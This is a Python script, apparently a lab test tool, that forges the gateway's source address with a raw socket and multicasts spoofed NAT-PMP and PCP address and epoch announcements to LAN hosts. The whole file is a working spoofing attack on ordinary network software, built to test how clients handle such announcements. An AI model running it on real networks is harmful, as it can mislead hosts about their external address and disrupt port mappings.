#!/usr/bin/env python3
"""Sends NAT-PMP/PCP announcements to 224.0.0.1:5350 that claim to come from the gateway,
as any host on a LAN can (issue 20: "a LAN host that speaks for the gateway").

  spoof_announce.py [--source 192.168.77.1] [--sport 5351] [--epoch 0] [--rate 10]
                    [--seconds 10] [--format both|pcp|natpmp] [--address 11.77.0.66]

The source address is forged with a raw socket (IPPROTO_RAW: we write the IP header, the
kernel fills in its checksum), so it needs CAP_NET_RAW (root in the lab namespace). Each tick
sends one datagram per format: a PCP ANNOUNCE response (RFC 6887 §14.1.3) and a NAT-PMP
address announcement (RFC 6886 §3.2.1) naming --address. Prints how many datagrams it sent.
"""
import argparse, socket, struct, time

ap = argparse.ArgumentParser()
ap.add_argument("--source", default="192.168.77.1")
ap.add_argument("--sport", type=int, default=5351)
ap.add_argument("--group", default="224.0.0.1")
ap.add_argument("--epoch", type=int, default=0)
ap.add_argument("--rate", type=float, default=10.0, help="ticks per second")
ap.add_argument("--seconds", type=float, default=10.0)
ap.add_argument("--format", default="both", choices=["both", "pcp", "natpmp"])
ap.add_argument("--address", default="11.77.0.66", help="external address in NAT-PMP announcements")
a = ap.parse_args()

def datagram(payload):
    udp = struct.pack("!HHHH", a.sport, 5350, 8 + len(payload), 0) + payload  # checksum 0: none (IPv4)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 1, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(a.source), socket.inet_aton(a.group))
    return ip + udp

payloads = []
if a.format in ("both", "pcp"):
    payloads.append(struct.pack("!BBBBII", 2, 0x80, 0, 0, 0, a.epoch) + bytes(12))
if a.format in ("both", "natpmp"):
    payloads.append(struct.pack("!BBHI4s", 0, 128, 0, a.epoch, socket.inet_aton(a.address)))
packets = [datagram(p) for p in payloads]

s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0
start = time.monotonic()
tick = 0
while True:
    due = start + tick / a.rate
    if due - start >= a.seconds:
        break
    delay = due - time.monotonic()
    if delay > 0:
        time.sleep(delay)
    for packet in packets:
        s.sendto(packet, (a.group, 0))
        sent += 1
    tick += 1
print(f"sent {sent} spoofed announcements ({tick} ticks) from {a.source}:{a.sport} to {a.group}:5350", flush=True)
